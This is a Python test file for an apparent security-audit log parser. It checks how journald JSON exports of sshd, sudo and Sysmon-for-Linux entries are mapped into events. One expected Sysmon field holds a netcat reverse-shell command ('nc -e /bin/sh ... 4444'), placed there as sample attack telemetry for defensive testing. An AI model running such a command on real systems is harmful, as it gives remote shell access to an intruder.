"""journald JSON export (journalctl -o json): syslog fields and kinds, Sysmon for Linux, byte-array messages."""

from __future__ import annotations

from datetime import UTC, datetime

from secaudit.core.events import LogKind


def test_journal_entries_map_like_syslog(read, fixtures) -> None:
    events, stats = read(fixtures / "linux" / "journal.json")
    assert stats.by_format == {"flat-json": 1} and stats.skipped == 0
    sshd, sudo, sysmon, raw = events
    assert sshd.kind == LogKind("linux", frozenset(), frozenset({"syslog", "sshd", "auth"}))
    assert sshd.fields["message"].startswith("Failed password for invalid user admin")
    assert sshd.fields["program"] == "sshd" and sshd.fields["pid"] == 3121
    assert sshd.fields["hostname"] == sshd.fields["Computer"] == "pkt-cc-jump01"
    assert sshd.fields["_EXE"] == "/usr/sbin/sshd"  # journald's own keys stay
    assert sshd.timestamp == datetime(2026, 11, 3, 3, 35, 40, 123456, tzinfo=UTC)
    assert sshd.record == 1
    assert sudo.kind.services == {"syslog", "sudo", "auth"}
    assert sysmon.kind == LogKind("linux", frozenset({"process_creation"}), frozenset({"sysmon"}))
    assert sysmon.fields["CommandLine"] == "nc -e /bin/sh 127.0.0.1 4444" and sysmon.record == 3
    assert raw.fields["message"] == "junction \ufffd ok"
    assert raw.kind.services == {"syslog"}
